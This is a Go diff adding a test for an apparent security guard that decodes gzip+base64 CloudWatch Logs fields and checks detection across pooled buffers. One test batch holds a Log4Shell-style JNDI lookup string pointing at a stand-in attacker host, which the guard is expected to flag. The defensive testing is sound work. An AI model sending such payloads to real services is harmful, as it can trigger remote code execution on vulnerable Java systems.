@@ -7,8 +7,10 @@ import (
 	"context"
 	"encoding/base64"
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -253,6 +255,61 @@ func TestFieldEncodings(t *testing.T) {
 		inv := &Invocation{Source: SourceLambdaUnknown, Fields: []Field{f}}
 		if d := g.Inspect(context.Background(), inv); d.Action != ActionAllow {
 			t.Errorf("benign field %d refused: %+v", i, d)
+		}
+	}
+}
+
+// A gzip+base64 field's gzip stream is decoded into the pooled scanner's
+// buffer: batches of different sizes in turn, several in one invocation, a
+// stream with a bad checksum and invalid base64 between them, are each judged as the
+// batch they are (nothing of the one before is read).
+func TestGzipBase64FieldsInTurn(t *testing.T) {
+	g, _ := newTestGuard(t)
+	b64 := base64.StdEncoding.EncodeToString
+	batch := func(n int, last string) string {
+		var sb strings.Builder
+		sb.WriteString(`{"messageType":"DATA_MESSAGE","logEvents":[`)
+		for i := range n {
+			fmt.Fprintf(&sb, `{"id":"%d","message":"2026-12-06T14:00:00.000Z\tINFO\tshipped order %d"},`, i, i)
+		}
+		sb.WriteString(`{"id":"last","message":` + strconv.Quote(last) + `}]}`)
+		return b64(gz(t, []byte(sb.String())))
+	}
+	big, small := batch(400, "GET /orders/42 200 12ms"), batch(3, "GET /?q=${jndi:ldap://evil.example/a}")
+	badSum := gz(t, []byte(`{"logEvents":[{"id":"1","message":"GET /orders/42 200 12ms"}]}`))
+	badSum[len(badSum)-8] ^= 1 // the trailer's CRC-32
+	field := func(v string) Field {
+		return Field{Loc: "awslogs.data", Value: v, Encoding: EncodingGzipBase64, Kind: KindJSON}
+	}
+	for round := range 2 {
+		steps := []struct {
+			name   string
+			fields []Field
+			rule   string // "" for a clean invocation
+			loc    string
+		}{
+			{"big clean", []Field{field(big)}, "", ""},
+			{"small attack", []Field{field(small)}, "jndi", "awslogs.data<gzip+base64>.logEvents[3].message"},
+			{"bad checksum", []Field{field(b64(badSum))}, "validation.invalid_encoding", "awslogs.data"},
+			{"big clean again", []Field{field(big)}, "", ""},
+			{"not base64", []Field{field("not base64!")}, "validation.invalid_encoding", "awslogs.data"},
+			{"big then small", []Field{field(big), field(small)}, "jndi", "awslogs.data<gzip+base64>.logEvents[3].message"},
+		}
+		for _, st := range steps {
+			d := g.Inspect(context.Background(), &Invocation{Source: SourceCloudWatchLogs, Fields: st.fields})
+			if st.rule == "" {
+				if d.Action != ActionAllow {
+					t.Fatalf("round %d, %s: refused: %+v", round, st.name, d)
+				}
+				continue
+			}
+			found := false
+			for _, f := range d.Findings {
+				found = found || strings.HasPrefix(f.Rule, st.rule) && f.Location == st.loc
+			}
+			if !found {
+				t.Fatalf("round %d, %s: want %s at %s: %+v", round, st.name, st.rule, st.loc, d)
+			}
 		}
 	}
 }
